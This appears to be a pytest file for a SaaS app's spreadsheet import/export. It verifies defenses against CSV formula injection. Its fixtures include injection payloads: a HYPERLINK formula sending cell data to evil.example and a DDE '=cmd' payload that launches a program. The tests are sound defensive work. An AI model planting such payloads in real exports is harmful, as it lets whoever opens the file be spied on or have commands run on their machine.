"""Exports never hand a spreadsheet a formula (issue #11, item 3; OWASP "CSV injection").

A CSV cell starting with = + - @ tab or CR is run by Excel and WPS as a formula, so the CSV
export puts a single quote in front, and the import takes exactly that quote off again: the
export → import round trip changes nothing, names that start with a quote included. The xlsx
exports store such values as text cells, never as formulas.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from saas.goals import actuals_import as actuals
from saas.imports.formats import (
    FORMULA_TRIGGERS,
    Table,
    csv_escape,
    csv_unescape,
    read_workbook,
    write_csv,
    write_xlsx,
)
from saas.models.goal import Goal
from saas.models.people import Employee
from tenants.slugs import schema_for
from tests.imports.conftest import (
    batch_id_of,
    commit,
    employees_sheet,
    person,
    unit,
    units_sheet,
    upload,
    xlsx,
)
from tests.imports.test_export import export, reimport

HOSTILE = {
    "0001": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "0002": "=1+1",
    "0003": "-5",
    "0004": "@SUM(A1:A9)",
    "0005": "'=x",  # a real name that starts with a quote before a trigger
    "0006": "+86 138 0013 8000",
    "0007": "'引号开头",  # a quote before an ordinary character: left alone
    "0008": "''-2",
}
POSITION = "=cmd|' /C calc'!A0"
UNCHANGED_UNITS = {"new": 0, "changed": 0, "unchanged": 1}
UNCHANGED_PEOPLE = {"new": 0, "changed": 0, "unchanged": len(HOSTILE)}


@pytest.fixture
def hostile(admin, db, tenant):
    people = [
        person(number, name, "HQ", POSITION if number == "0001" else None)
        for number, name in HOSTILE.items()
    ]
    book = xlsx(
        {
            "部门": units_sheet(unit("HQ", "=外包保洁公司", kind="公司", manager="0001")),
            "人员": employees_sheet(*people),
        }
    )
    commit(admin, tenant, batch_id_of(upload(admin, tenant, book, "org.xlsx")))
    with db.tenant(schema_for(tenant.slug)) as session:
        stored = {n: name for n, name in session.execute(select(Employee.number, Employee.name))}
    assert stored == HOSTILE
    return tenant


def _cells(content: bytes, encoding: str) -> list[list[str]]:
    text = content.decode("utf-8-sig" if encoding == "utf-8" else "gb18030")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_csv_export_neutralises_formulas_and_round_trips(admin, db, hostile, encoding):
    tenant = hostile
    people = export(admin, tenant, "csv", kind="employees", encoding=encoding)
    units = export(admin, tenant, "csv", kind="units", encoding=encoding)
    for row in _cells(people, encoding) + _cells(units, encoding):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    names = {row[0]: row[1] for row in _cells(people, encoding)[1:]}
    assert names["0001"] == "'" + HOSTILE["0001"]
    assert names["0003"] == "'-5"
    assert names["0005"] == "''=x"  # one more quote, taken off again on import
    assert names["0007"] == "'引号开头"  # nothing added, so nothing taken off
    assert _cells(people, encoding)[1][3] == "'" + POSITION
    assert _cells(units, encoding)[1][1] == "'=外包保洁公司"

    assert reimport(admin, db, tenant, units, "units.csv")["units"] == UNCHANGED_UNITS
    assert reimport(admin, db, tenant, people, "people.csv")["employees"] == UNCHANGED_PEOPLE
    with db.tenant(schema_for(tenant.slug)) as session:
        stored = {n: name for n, name in session.execute(select(Employee.number, Employee.name))}
    assert stored == HOSTILE
    assert export(admin, tenant, "csv", kind="employees", encoding=encoding) == people


def test_xlsx_export_stores_formula_like_names_as_text(admin, db, hostile):
    tenant = hostile
    first = export(admin, tenant, "xlsx")
    book = load_workbook(io.BytesIO(first))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = {r[0]: r[1] for r in book["人员"].iter_rows(min_row=2, values_only=True)}
    assert names == HOSTILE  # exactly as stored: xlsx needs no quote, the cell type says text
    counts = reimport(admin, db, tenant, first, "export.xlsx")
    assert counts == {"units": UNCHANGED_UNITS, "employees": UNCHANGED_PEOPLE}


def test_write_xlsx_never_writes_a_formula():
    table = Table("x", ["名称"], [[name] for name in HOSTILE.values()])
    sheet = load_workbook(io.BytesIO(write_xlsx([table])))["x"]
    assert [c.data_type for (c,) in sheet.iter_rows(min_row=2)] == ["s"] * len(HOSTILE)


def test_tab_and_carriage_return_are_quoted_and_read_back():
    data = write_csv(["工号", "姓名"], [["0001", "\tx"], ["0002", "\r=1"]], "utf-8")
    assert _cells(data, "utf-8")[1:] == [["0001", "'\tx"], ["0002", "'\r=1"]]
    rows = read_workbook(data, "people.csv").sheets["employees"].rows
    assert [row.values["name"] for row in rows] == ["\tx", "\r=1"]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab,\"汉"), max_size=8))
def test_escaping_is_undone_exactly_and_never_leaves_a_trigger_in_front(value):
    escaped = csv_escape(value)
    assert csv_unescape(escaped) == value
    assert not escaped.startswith(FORMULA_TRIGGERS)


def test_actuals_template_writes_owner_names_and_titles_as_text():
    goal = Goal(
        id=7, title="=1+1", measure="numeric", target=Decimal(5), unit="件", direction="higher"
    )
    found = actuals.Recordable({7: goal}, [goal], {7: '=HYPERLINK("http://evil.example")'})
    book = load_workbook(io.BytesIO(actuals.template_xlsx(found, "zh", ["说明"])))
    row = book.worksheets[0][2]
    assert row[1].value == "=1+1" and row[1].data_type == "s"
    assert row[6].value == '=HYPERLINK("http://evil.example")' and row[6].data_type == "s"
